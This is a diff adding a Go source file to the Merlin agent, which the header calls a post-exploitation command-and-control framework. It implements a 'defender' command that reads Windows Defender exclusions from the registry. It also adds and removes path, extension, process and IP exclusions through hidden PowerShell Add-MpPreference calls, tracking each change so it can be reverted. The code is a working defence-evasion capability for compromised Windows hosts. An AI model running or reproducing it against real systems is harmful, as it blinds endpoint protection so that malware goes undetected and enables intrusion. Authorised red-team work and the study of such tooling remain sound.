@@ -0,0 +1,128 @@
+//go:build windows
+// +build windows
+
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2022  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package commands
+
+import (
+	// Standard
+	"fmt"
+	"sort"
+	"strings"
+
+	// X Packages
+	"golang.org/x/sys/windows/registry"
+
+	// Merlin Main
+	"github.com/Ne0nd0g/merlin/pkg/jobs"
+
+	// Internal
+	"github.com/Ne0nd0g/merlin-agent/cli"
+)
+
+// exclusionTypes maps the exclusion types to their registry key and MpPreference parameter
+var exclusionTypes = map[string][2]string{
+	"path":      {"Paths", "ExclusionPath"},
+	"extension": {"Extensions", "ExclusionExtension"},
+	"process":   {"Processes", "ExclusionProcess"},
+	"ip":        {"IpAddresses", "ExclusionIpAddress"},
+}
+
+// Defender lists and modifies Windows Defender exclusions. Exclusions are read from the registry and changed with the
+// MpPreference WMI cmdlets because Tamper Protection blocks writing to the registry directly. Every change is tracked
+// so that it can be reverted
+// defender list
+// defender add <path|extension|process|ip> <value>
+// defender remove <path|extension|process|ip> <value>
+// defender changes
+// defender revert <id|all>
+func Defender(cmd jobs.Command) (results jobs.Results, structured Structured) {
+	if cli.Enabled {
+		cli.Message(cli.DEBUG, fmt.Sprintf("entering Defender() with %+v", cmd))
+	}
+	if len(cmd.Args) < 1 {
+		results.Stderr = "not enough arguments provided to the defender command"
+		return
+	}
+
+	switch strings.ToLower(cmd.Args[0]) {
+	case "list":
+		var findings []FindingRecord
+		names := make([]string, 0, len(exclusionTypes))
+		for name := range exclusionTypes {
+			names = append(names, name)
+		}
+		sort.Strings(names)
+		for _, name := range names {
+			key, err := openKey(registry.LOCAL_MACHINE, `SOFTWARE\Microsoft\Windows Defender\Exclusions\`+exclusionTypes[name][0], registry.QUERY_VALUE)
+			if err != nil {
+				results.Stderr += fmt.Sprintf("there was an error reading the %s exclusions, they require administrator: %s\n", name, err)
+				continue
+			}
+			values, _ := key.ReadValueNames(-1)
+			key.Close()
+			for _, value := range values {
+				findings = append(findings, FindingRecord{Category: name, Name: exclusionTypes[name][1], Value: value})
+			}
+		}
+		results.Stdout = findingsText(findings)
+		if len(findings) == 0 && results.Stderr == "" {
+			results.Stdout = "there are no Defender exclusions"
+		}
+		structured = newStructured("defender", findings)
+	case "add", "remove":
+		if len(cmd.Args) < 3 {
+			results.Stderr = fmt.Sprintf("not enough arguments provided to the defender %s command", cmd.Args[0])
+			return
+		}
+		exclusion, ok := exclusionTypes[strings.ToLower(cmd.Args[1])]
+		if !ok {
+			results.Stderr = fmt.Sprintf("%s is not a valid exclusion type, use path, extension, process, or ip", cmd.Args[1])
+			return
+		}
+		value := strings.Join(cmd.Args[2:], " ")
+		do, undo := "Add-MpPreference", "Remove-MpPreference"
+		if strings.ToLower(cmd.Args[0]) == "remove" {
+			do, undo = undo, do
+		}
+		command := powershell(fmt.Sprintf("%s -%s %s", do, exclusion[1], psQuote(value)))
+		if _, err := runHidden(command[0], command[1:]...); err != nil {
+			results.Stderr = fmt.Sprintf("there was an error running %s: %s", do, err)
+			return
+		}
+		description := fmt.Sprintf("%s %s %s", do, exclusion[1], value)
+		id := recordChange("defender", description, powershell(fmt.Sprintf("%s -%s %s", undo, exclusion[1], psQuote(value)))...)
+		results.Stdout = fmt.Sprintf("Change %d: %s", id, description)
+	case "changes":
+		results.Stdout = listChanges("defender")
+	case "revert":
+		if len(cmd.Args) < 2 {
+			results.Stderr = "not enough arguments provided to the defender revert command"
+			return
+		}
+		out, err := revertChange("defender", cmd.Args[1])
+		results.Stdout = out
+		if err != nil {
+			results.Stderr = err.Error()
+		}
+	default:
+		results.Stderr = fmt.Sprintf("unknown defender command: %s", cmd.Args[0])
+	}
+	return
+}